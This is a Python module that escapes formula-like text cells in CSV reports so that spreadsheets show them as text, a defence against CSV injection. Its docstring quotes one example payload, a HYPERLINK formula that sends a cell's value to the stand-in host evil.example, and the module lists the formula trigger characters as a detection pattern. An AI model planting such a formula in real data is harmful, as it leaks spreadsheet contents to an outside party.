"""CSV files that are safe to open in a spreadsheet: no cell of ours runs as a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some versions, one that starts with a tab or carriage return) as a formula, so a customer name
like ``=HYPERLINK("http://evil.example/?"&A1, "click")`` written into a report would act when an
AR clerk opens it. Every CSV this project writes for people goes through :func:`write_safe_csv`.

The escape is the one OWASP recommends ("CSV injection"): a single quote before the cell, which
spreadsheets show as text and do not display. Only text cells are escaped: a negative number in a
numeric column is data, not a formula.
"""

from __future__ import annotations

from pathlib import Path
from typing import Final

import polars as pl

from ar_sync.output_files import write_replacing

#: The characters that make a spreadsheet read a cell as a formula when they come first.
FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
_TRIGGER_PATTERN: Final = r"^[=+\-@\t\r]"


def looks_like_formula(text: str | None) -> bool:
    """True when a spreadsheet would run ``text`` as a formula (it starts with = + - @ tab or CR)."""
    return text is not None and text.startswith(FORMULA_TRIGGERS)


def looks_like_formula_expr(expr: pl.Expr) -> pl.Expr:
    """:func:`looks_like_formula` over a String column (null stays null)."""
    return expr.str.contains(_TRIGGER_PATTERN)


def escape_formula(text: str | None) -> str | None:
    """``text`` prefixed with a single quote when it would run as a formula, else unchanged.

    Example:
        >>> escape_formula("=1+1"), escape_formula("Mehta Textiles")
        ("'=1+1", 'Mehta Textiles')
    """
    return f"'{text}" if looks_like_formula(text) else text


def escape_formula_expr(expr: pl.Expr) -> pl.Expr:
    """:func:`escape_formula` over a String column."""
    return pl.when(looks_like_formula_expr(expr)).then(pl.concat_str(pl.lit("'"), expr)).otherwise(expr)


def escape_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every String column escaped (:func:`escape_formula_expr`); others unchanged."""
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(escape_formula_expr(pl.col(name)).alias(name) for name in text)


def write_safe_csv(frame: pl.DataFrame, path: str | Path) -> Path:
    """Write ``frame`` as a UTF-8 CSV with formula-like text cells escaped; return the path.

    The file is written next to its final name and then renamed over it (``output_files.write_replacing``),
    so a reader (or a crash, or a power cut) never sees half a report.

    Example:
        >>> write_safe_csv(pl.DataFrame({"name": ["=1+1"]}), "out/report.csv")  # doctest: +SKIP
    """
    target = Path(path)
    target.parent.mkdir(parents=True, exist_ok=True)
    return write_replacing(target, escape_formulas(frame).write_csv)
